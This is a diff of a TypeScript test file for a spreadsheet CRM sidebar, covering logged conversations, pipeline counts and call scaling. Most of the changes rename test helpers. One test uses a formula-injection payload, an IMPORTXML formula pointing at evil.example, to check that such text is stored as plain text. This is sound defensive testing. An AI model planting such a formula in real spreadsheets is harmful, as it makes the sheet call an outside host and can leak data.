@@ -3,23 +3,14 @@
 import type { Runtime } from '../../../local/runtime/index';
 import type { PipelineSummary } from '../../../src/domain/pipeline/pipeline';
 import type { LogConversationResult, SidebarLoad } from '../../../src/sidebarApi';
-import { prospek, snapshot } from '../harness';
-import {
-  activityRows,
-  bigSheet,
-  contact,
-  conversation,
-  idOf,
-  ok,
-  selectRows,
-  sheetWith,
-  sidebar,
-} from './contactsHarness';
+import { idOf, prospek, sheetWith, snapshot } from '../../support/workbook';
+import { call, callOk } from '../../support/sidebar';
+import { activityRows, bigSheet, contact, conversation, selectRows } from './contactsHarness';
 
 describe('logConversation', () => {
   it('appends the conversation and sets Last contacted and Next follow-up', () => {
     const rt = sheetWith([{ name: 'Budi Santoso', stage: 'Prospect' }]);
-    const r = ok<LogConversationResult>(
+    const r = callOk<LogConversationResult>(
       rt,
       'logConversation',
       conversation(idOf(1), {
@@ -61,7 +52,7 @@ describe('logConversation', () => {
       by: 'rep@example.com',
     });
     // The version given back matches the row: a save right after is no conflict.
-    const again = sidebar(rt, 'saveContact', {
+    const again = call(rt, 'saveContact', {
       contact: { id: idOf(1), name: 'Budi Santoso', company: 'Toko Budi' },
       loadedUpdated: r.contact.updated,
       loadedVersion: r.version,
@@ -72,11 +63,11 @@ describe('logConversation', () => {
   it('the sidebar gets the newest 100 entries of a long history, newest first', () => {
     const rt = sheetWith([{ name: 'Budi' }, { name: 'Sari' }]);
     for (let i = 1; i <= 105; i++) {
-      ok(rt, 'logConversation', conversation(idOf(1), { summary: `call ${i}` }));
-      if (i % 10 === 0) ok(rt, 'logConversation', conversation(idOf(2), { summary: 'other' }));
+      callOk(rt, 'logConversation', conversation(idOf(1), { summary: `call ${i}` }));
+      if (i % 10 === 0) callOk(rt, 'logConversation', conversation(idOf(2), { summary: 'other' }));
       rt.advanceBy(60_000);
     }
-    const load = ok<SidebarLoad>(rt, 'loadSidebar', { contactId: idOf(1) });
+    const load = callOk<SidebarLoad>(rt, 'loadSidebar', { contactId: idOf(1) });
     expect(load.timeline).toHaveLength(100);
     expect(load.timeline[0].summary).toBe('call 105');
     expect(load.timeline[99].summary).toBe('call 6');
@@ -88,8 +79,8 @@ describe('logConversation', () => {
       { name: 'Due', nextFollowUp: '2026-11-20' },
       { name: 'Later', nextFollowUp: '2026-12-10' },
     ]);
-    ok(rt, 'logConversation', conversation(idOf(1), { summary: 'Called back' }));
-    ok(rt, 'logConversation', conversation(idOf(2), { summary: 'Quick hello' }));
+    callOk(rt, 'logConversation', conversation(idOf(1), { summary: 'Called back' }));
+    callOk(rt, 'logConversation', conversation(idOf(2), { summary: 'Quick hello' }));
     expect(contact(rt, idOf(1))).toMatchObject({ nextFollowUp: '', lastContacted: '2026-11-27' });
     expect(contact(rt, idOf(2))).toMatchObject({
       nextFollowUp: '2026-12-10',
@@ -99,7 +90,7 @@ describe('logConversation', () => {
 
   it('keeps text that looks like a formula as text', () => {
     const rt = sheetWith([{ name: 'Budi' }]);
-    const r = ok<LogConversationResult>(
+    const r = callOk<LogConversationResult>(
       rt,
       'logConversation',
       conversation(idOf(1), { summary: '=IMPORTXML("http://evil.example","//a")', concerns: '+1' }),
@@ -122,7 +113,7 @@ describe('logConversation', () => {
   ])('refuses %s, naming the field, and writes nothing', (_what, fields, field) => {
     const rt = sheetWith([{ name: 'Budi' }]);
     const before = snapshot(rt);
-    const r = sidebar(rt, 'logConversation', conversation(idOf(1), fields as never));
+    const r = call(rt, 'logConversation', conversation(idOf(1), fields as never));
     expect(r.ok).toBe(false);
     expect(!r.ok && r.issues.map((i) => i.field)).toEqual([field]);
     expect(snapshot(rt)).toEqual(before);
@@ -142,7 +133,7 @@ describe('getPipeline', () => {
       { name: 'Nope', stage: 'Said no', keepInTouch: 'No', nextFollowUp: '2026-11-01' },
       { name: 'Unfit', stage: 'Not a fit', nextFollowUp: '2026-11-01' },
     ]);
-    const p = ok<PipelineSummary>(rt, 'getPipeline');
+    const p = callOk<PipelineSummary>(rt, 'getPipeline');
     expect(p.total).toBe(9);
     expect(Object.fromEntries(p.stages.map((s) => [s.stage, s.count]))).toEqual({
       Lead: 2,
@@ -173,7 +164,7 @@ describe('getPipeline', () => {
   it('is an empty pipeline in a sheet never set up, and writes nothing', () => {
     const rt = prospek();
     const before = snapshot(rt);
-    expect(ok<PipelineSummary>(rt, 'getPipeline').total).toBe(0);
+    expect(callOk<PipelineSummary>(rt, 'getPipeline').total).toBe(0);
     expect(snapshot(rt)).toEqual(before);
   });
 });
@@ -191,13 +182,13 @@ describe('service calls do not grow with the number of contacts', () => {
     const rt = bigSheet(count);
     // The contact in the middle has some history; everyone's log entries are mixed in.
     const target = idOf(Math.ceil(count / 2));
-    ok(rt, 'logConversation', conversation(target, { summary: 'first' }));
-    ok(rt, 'logConversation', conversation(idOf(1), { summary: 'someone else' }));
-    ok(rt, 'logConversation', conversation(target, { summary: 'second' }));
+    callOk(rt, 'logConversation', conversation(target, { summary: 'first' }));
+    callOk(rt, 'logConversation', conversation(idOf(1), { summary: 'someone else' }));
+    callOk(rt, 'logConversation', conversation(target, { summary: 'second' }));
     selectRows(rt, [Math.ceil(count / 2) + 1, Math.ceil(count / 2) + 1]);
     const loadActive = measure(rt, 'loadSidebar', [{}]);
     const loadById = measure(rt, 'loadSidebar', [{ contactId: target }]);
-    const loaded = ok<SidebarLoad>(rt, 'loadSidebar', { contactId: target });
+    const loaded = callOk<SidebarLoad>(rt, 'loadSidebar', { contactId: target });
     const save = measure(rt, 'saveContact', [
       {
         contact: { id: target, name: 'Renamed', fitsMarket: 'Yes' },
@@ -207,7 +198,7 @@ describe('service calls do not grow with the number of contacts', () => {
     ]);
     const create = measure(rt, 'saveContact', [{ contact: { name: 'New' }, loadedUpdated: '' }]);
     const log = measure(rt, 'logConversation', [conversation(target, { summary: 'third' })]);
-    const saved = ok<SidebarLoad>(rt, 'loadSidebar', { contactId: target });
+    const saved = callOk<SidebarLoad>(rt, 'loadSidebar', { contactId: target });
     return { loadActive, loadById, save, create, log, saved: saved.contact!.name };
   }
 
